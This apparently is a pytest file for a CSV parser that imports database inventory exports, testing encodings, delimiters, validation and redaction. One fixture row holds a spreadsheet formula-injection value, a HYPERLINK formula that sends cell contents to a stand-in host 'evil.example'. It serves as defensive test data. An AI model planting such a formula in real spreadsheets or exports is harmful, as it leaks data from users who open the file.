"""`csv`: CMDB and spreadsheet exports."""

from __future__ import annotations

import codecs

import pytest

from tests.discovery.helpers import by_key, parse_fixture
from webapp.discovery import DiscoveryError, parse


@pytest.fixture(scope="module")
def cmdb():
    return parse_fixture("cmdb_export.csv")


def test_keys_follow_data_rows_and_a_blank_row_keeps_its_number(cmdb):
    # row 7 is blank: no record, but row 8 is still csv:8
    assert [r.key for r in cmdb.records] == [f"csv:{n}" for n in (1, 2, 3, 4, 5, 6, 8)]
    assert [r.row for r in cmdb.records] == [1, 2, 3, 4, 5, 6, 8]


def test_header_aliases_and_value_spellings(cmdb):
    billing = by_key(cmdb)["csv:1"]
    assert billing.error is None and billing.warnings == []
    assert billing.fields == {
        "name": "billing-db",
        "engine": "postgresql",  # DBMS: PostgreSQL
        "engine_version": "15.4",  # Version
        "host": "pg-billing-01.corp.example.com",  # Hostname, upper case with a trailing dot
        "aliases": ["10.1.2.3"],  # IP Address: a second column naming the server
        "port": 5432,
        "database_name": "billing",  # Database
        "environment": "production",  # Env: prod
        "owner": "team-billing@example.com",  # Team
        "criticality": "critical",  # P1
        "data_classification": "confidential",  # Classification
        "tags": ["owner=billing", "pci"],  # pci;owner=billing;PCI: k=v kept, lower-cased, unique
        "encrypted_at_rest": True,  # yes
        "publicly_accessible": False,  # no
        "backup_retention_days": 14,  # Backup Retention
        "notes": "Primary billing database.\r\nFailover: manual, see runbook.",
    }
    assert billing.ip_addresses == ["10.1.2.3"]


def test_a_quoted_multi_line_cell_is_one_record(cmdb):
    assert "\n" in by_key(cmdb)["csv:1"].fields["notes"]
    assert by_key(cmdb)["csv:2"].fields["name"] == "crm"


def test_an_engine_with_version_and_edition(cmdb):
    crm = by_key(cmdb)["csv:2"]
    assert crm.fields["engine"] == "mssql"
    assert crm.fields["engine_version"] == "2019"  # from "SQL Server 2019 Enterprise"
    assert crm.fields["environment"] == "production"  # PRD
    assert crm.fields["encrypted_at_rest"] is True and crm.fields["publicly_accessible"] is False


def test_formula_cells_are_kept_verbatim(cmdb):
    row = by_key(cmdb)["csv:3"]
    assert row.error is None
    assert row.fields["name"] == '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert row.fields["owner"] == "@ops"
    assert row.fields["tags"] == ["+tag", "-minus"]
    assert row.fields["notes"] == "-2+3"


def test_an_invalid_port_fails_the_row_and_the_rest_goes_on(cmdb):
    row = by_key(cmdb)["csv:4"]
    assert row.error == "port '99999' is not a whole number from 1 to 65535."
    assert by_key(cmdb)["csv:5"].error is None


def test_unmappable_values_are_warnings_and_left_out(cmdb):
    row = by_key(cmdb)["csv:5"]
    assert row.error is None
    assert row.warnings == [
        "engine 'Neo4j' not recognised; left out",
        "criticality 'sev-2' not recognised; left out",
        "data_classification 'secret' not recognised; left out",
        "encrypted_at_rest 'maybe' is not yes/no/true/false; left out",
    ]
    for field in ("engine", "criticality", "data_classification", "encrypted_at_rest"):
        assert field not in row.fields
    assert row.fields["environment"] == "test"  # qa


def test_a_missing_name_is_derived_from_host_and_port(cmdb):
    row = by_key(cmdb)["csv:6"]
    assert row.fields["name"] == "mongo01.corp.example.com:27017"
    assert row.fields["engine"] == "mongodb" and row.fields["environment"] == "test"  # uat
    assert (
        row.fields["criticality"] == "critical"
        and row.fields["data_classification"] == "restricted"
    )


def test_a_row_nothing_identifies_is_an_error(cmdb):
    row = by_key(cmdb)["csv:8"]
    assert (
        row.error == "No name, and no host, database name or cloud resource id to derive one from."
    )


def test_unknown_columns_are_reported_once(cmdb):
    assert cmdb.warnings == ["Columns not recognised, ignored: Cost Center."]


def test_bom_and_semicolon_delimiter():
    result = parse_fixture("bom_semicolon.csv")
    assert result.warnings == []
    first, second = result.records
    assert first.fields["name"] == "Lager-DB"  # the BOM is not part of the first header
    assert first.fields["engine_version"] == "10,11"  # a decimal comma inside a ; file
    assert first.fields["notes"] == "Größe: 1,5 TB"
    assert "environment 'Produktion' not recognised; left out" in first.warnings
    assert second.fields["engine"] == "postgresql" and second.fields["port"] == 5432


def test_latin1_is_read_with_a_warning():
    result = parse_fixture("latin1.csv")
    assert result.warnings == ["The file is not valid UTF-8; it was read as Windows-1252."]
    assert result.records[0].fields["owner"] == "Équipe Comptabilité"
    assert result.records[0].fields["notes"] == "Base de données « comptable »"
    assert result.records[1].fields["owner"] == "José Müller"


def test_header_only():
    result = parse_fixture("header_only.csv")
    assert result.records == [] and result.warnings == [
        "The CSV file has a header but no data rows."
    ]


def test_excel_sep_line_tab_delimiter_and_utf16():
    sep = parse(b"sep=;\r\nname;engine;port\r\na;postgres;5432\r\n")
    assert sep.records[0].fields == {"name": "a", "engine": "postgresql", "port": 5432}
    assert sep.records[0].key == "csv:1"
    tab = parse(b"name\tengine\thost\nb\tmysql\tdb.example.com\n")
    assert tab.records[0].fields == {"name": "b", "engine": "mysql", "host": "db.example.com"}
    utf16 = parse(codecs.BOM_UTF16_LE + "name\tengine\nc\tredis\n".encode("utf-16-le"))
    assert utf16.format == "csv" and utf16.records[0].fields == {"name": "c", "engine": "redis"}


def test_headers_match_case_and_punctuation_insensitively():
    result = parse(b"NAME,Engine Version,DB-Name,Owner_Email,DBMS\nx,16,app,a@example.com,pg\n")
    assert result.records[0].fields == {
        "name": "x",
        "engine_version": "16",
        "database_name": "app",
        "owner": "a@example.com",
        "engine": "postgresql",
    }


def test_shared_columns_first_non_empty_wins_and_is_reported():
    result = parse(b"name,owner,team\na,,team-a\nb,owner-b,team-b\n")
    assert [r.fields["owner"] for r in result.records] == ["team-a", "owner-b"]
    assert result.warnings == [
        "Columns owner, team all map to owner; the first non-empty one in each row is used."
    ]


def test_metadata_columns_aliases_and_extra_cells():
    result = parse(
        b"name,host,server,aliases,metadata.cost_center,metadata,engine\n"
        b'a,DB1.example.com,10.0.0.1,"db1-alias.example.com; 10.0.0.2, bad host!",CC-1,"{""rack"": ""r1""}",redis,surplus\n'
    )
    record = result.records[0]
    assert record.fields["host"] == "db1.example.com"
    assert record.fields["aliases"] == ["10.0.0.1", "db1-alias.example.com", "10.0.0.2"]
    assert record.ip_addresses == ["10.0.0.1", "10.0.0.2"]
    assert record.fields["metadata"] == {"rack": "r1", "cost_center": "CC-1"}
    assert "alias 'bad host!' is not a DNS name or IP address; left out" in record.warnings
    assert "1 cells beyond the last column ignored" in record.warnings


def test_a_source_column_is_ignored_with_a_reason():
    result = parse(b"name,engine,source\na,redis,cmdb\n")
    assert "source" not in result.records[0].fields
    assert any("source label is set for the whole upload" in w for w in result.warnings)


def test_posture_values_and_timestamps():
    result = parse(
        b"name,engine,tls_required,deletion_protection,last_backup_at,backup_retention_days,confidence\n"
        b"a,redis,on,n,2024-03-12T02:00:00Z,3650,0.8\n"
        b"b,redis,1,0,2024-03-12 02:00,3651,1.5\n"
    )
    a, b = result.records
    assert a.fields["tls_required"] is True and a.fields["deletion_protection"] is False
    assert a.fields["last_backup_at"].isoformat() == "2024-03-12T02:00:00+00:00"
    assert a.fields["backup_retention_days"] == 3650 and a.fields["confidence"] == 0.8
    assert b.fields["last_backup_at"].isoformat() == "2024-03-12T02:00:00+00:00"
    assert "last_backup_at has no time zone; read as UTC" in b.warnings
    assert "backup_retention_days" not in b.fields and "confidence" not in b.fields


def test_a_connection_string_is_never_echoed_in_a_warning():
    secret = "postgresql://app:" + "s3cr3t" * 700 + "@db/app"
    result = parse(f"name,engine,connection_string\na,postgres,{secret}\n".encode())
    assert "connection_string" not in result.records[0].fields
    assert all("s3cr3t" not in w for w in result.records[0].warnings)


def test_ports_must_be_whole_numbers_in_range():
    result = parse(
        b"name,engine,port\na,redis,6379\nb,redis,0\nc,redis,-1\nd,redis,63.5\ne,redis,\n"
    )
    assert [r.error is None for r in result.records] == [True, False, False, False, True]
    assert "port" not in result.records[4].fields


def test_a_broken_file_is_reported_with_its_row():
    huge = b"x" * 200_000
    with pytest.raises(
        DiscoveryError, match=r"CSV error in data row 2: field larger than field limit"
    ):
        parse(b"name,engine\na,redis\nb," + huge + b"\n", format="csv")


def test_nul_characters_never_reach_a_field():
    result = parse(
        b"name,engine,owner,tags\na,redis,te\x00am,ok;b\x00ad\nb\x00,redis,,\n", format="csv"
    )
    first, second = result.records
    assert (
        "owner" not in first.fields and "owner contains a NUL character; left out" in first.warnings
    )
    assert first.fields["tags"] == ["ok"]
    assert second.error == "name contains a NUL character."
